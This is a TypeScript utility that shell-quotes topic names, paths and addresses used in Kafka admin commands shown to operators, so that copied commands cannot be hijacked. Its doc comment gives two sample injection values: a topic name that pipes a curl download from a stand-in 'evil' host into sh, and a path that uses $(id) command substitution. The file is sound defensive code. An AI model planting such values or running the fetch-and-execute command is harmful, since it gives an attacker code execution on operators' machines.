/**
 * A value as one POSIX shell word, for the commands the app gives operators to copy (the planner's
 * kafka-configs / kafka-reassign-partitions / kafka-leader-election lines, the throttle doctor's
 * advice). Topic names, dir paths and addresses come from snapshots and requests, and the snapshot
 * schema checks no characters: a topic can be named `x; curl evil | sh`, a dir `/d'$(id)'`.
 * - A value of only characters no POSIX shell (sh, bash, zsh) treats specially goes as it is, so
 *   ordinary commands read as before (`--entity-name orders`, `--bootstrap-server k1:9092,k2:9092`).
 * - Anything else is single-quoted, each `'` written as `'\''`: inside single quotes nothing expands.
 */

/** No globbing, expansion, splitting, redirection or history; `=` only after the first character (zsh's `=cmd`). */
const SAFE = /^[A-Za-z0-9._/:,@+-][A-Za-z0-9._/:,@+=-]*$/;

/** `value` as one shell word. */
export function shellArg(value: string): string {
  return SAFE.test(value) ? value : `'${value.replace(/'/g, "'\\''")}'`;
}
